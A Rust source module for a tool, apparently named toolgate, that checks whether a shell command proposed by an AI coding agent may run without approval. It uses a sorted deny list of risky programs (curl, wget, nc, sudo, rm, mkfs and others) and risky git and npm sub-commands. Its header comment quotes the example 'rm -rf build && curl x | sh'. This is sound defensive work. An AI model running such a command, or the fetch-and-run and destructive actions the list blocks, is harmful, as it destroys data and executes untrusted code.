//! Command safety: whether a command may count as Cline's "safe command". Cline trusts the
//! model's `requires_approval: false` alone; toolgate also requires that its own analysis finds
//! nothing risky, so a model that mislabels `rm -rf build && curl x | sh` gains nothing.

use crate::shell::{Analysis, Problem, SimpleCommand};

/// Programs that change or destroy state, run code given to them, or reach the network.
/// A command using any of them is never "safe", whatever the model says. Sorted (a test
/// checks), for a binary search.
const RISKY_PROGRAMS: &[&str] = &[
    ".",
    "at",
    "awk",
    "bash",
    "bun",
    "chgrp",
    "chmod",
    "chown",
    "cp",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dd",
    "deno",
    "doas",
    "docker",
    "eval",
    "exec",
    "find",
    "fish",
    "ftp",
    "halt",
    "init",
    "install",
    "kill",
    "killall",
    "ksh",
    "kubectl",
    "ln",
    "mkfs",
    "mount",
    "mv",
    "nc",
    "ncat",
    "netcat",
    "node",
    "npx",
    "osascript",
    "patch",
    "perl",
    "php",
    "pkill",
    "poweroff",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "reboot",
    "rm",
    "rmdir",
    "rsync",
    "ruby",
    "scp",
    "sed",
    "service",
    "sftp",
    "sh",
    "shred",
    "shutdown",
    "source",
    "ssh",
    "su",
    "sudo",
    "systemctl",
    "tee",
    "telnet",
    "terraform",
    "truncate",
    "umount",
    "unlink",
    "wget",
    "wipefs",
    "xargs",
    "zsh",
];

/// Sub-commands of otherwise harmless programs that are not.
const RISKY_SUBCOMMANDS: &[(&str, &str)] = &[
    ("git", "push"),
    ("git", "reset"),
    ("git", "clean"),
    ("git", "checkout"),
    ("git", "rebase"),
    ("git", "filter-branch"),
    ("npm", "publish"),
    ("npm", "exec"),
    ("cargo", "publish"),
    ("yarn", "publish"),
    ("pnpm", "publish"),
];

/// What makes a command not safe.
enum Risk<'a> {
    Unparseable(&'a str),
    Suspicious(&'a str),
    NotPlain,
    /// A program (or launcher) that can change the system or run code.
    Program(&'a str),
    /// A program and its sub-command that changes state.
    Subcommand(&'a str, &'a str),
}

/// Why `analysis` is not safe, or `None` when nothing risky was found.
pub fn risk(analysis: &Analysis) -> Option<String> {
    Some(match find_risk(analysis)? {
        Risk::Unparseable(why) => format!("the command cannot be analysed ({why})"),
        Risk::Suspicious(why) => format!("the command is suspicious ({why})"),
        Risk::NotPlain => {
            "the command uses redirections, substitutions or other non-plain syntax".into()
        }
        Risk::Program(name) => format!("`{name}` can change the system or run arbitrary code"),
        Risk::Subcommand(base, sub) => format!("`{base} {sub}` changes state"),
    })
}

/// Whether nothing risky was found: [`risk`] without building the sentence.
pub fn is_safe(analysis: &Analysis) -> bool {
    find_risk(analysis).is_none()
}

fn find_risk(analysis: &Analysis) -> Option<Risk<'_>> {
    match &analysis.problem {
        Some(Problem::Unparseable(why)) => return Some(Risk::Unparseable(why)),
        Some(Problem::Suspicious(why)) => return Some(Risk::Suspicious(why)),
        None => {}
    }
    if !analysis.plain {
        return Some(Risk::NotPlain);
    }
    analysis.commands.iter().find_map(risky_command)
}

fn risky_command(cmd: &SimpleCommand) -> Option<Risk<'_>> {
    // A launcher (`sudo`, `xargs`, `bash -c`) is judged like the program it is.
    for w in &cmd.wrappers {
        let base = w.name.split_whitespace().next().unwrap_or(&w.name);
        if risky_program(base) {
            return Some(Risk::Program(&w.name));
        }
    }
    let name = program(cmd)?;
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    if risky_program(base) || base.starts_with("mkfs.") {
        return Some(Risk::Program(base));
    }
    let sub = cmd.words.iter().skip(1).find(|w| !w.starts_with('-'));
    if let Some(sub) = sub {
        if RISKY_SUBCOMMANDS
            .iter()
            .any(|(p, s)| p.len() == base.len() && *p == base && s == sub)
        {
            return Some(Risk::Subcommand(base, sub));
        }
    }
    None
}

fn risky_program(name: &str) -> bool {
    RISKY_PROGRAMS.binary_search(&name).is_ok()
}

fn program(cmd: &SimpleCommand) -> Option<&str> {
    cmd.words.first().map(|s| s.as_str())
}

#[cfg(test)]
mod tests {
    #[test]
    fn risky_programs_are_sorted_for_the_binary_search() {
        assert!(super::RISKY_PROGRAMS.windows(2).all(|w| w[0] < w[1]));
    }
}
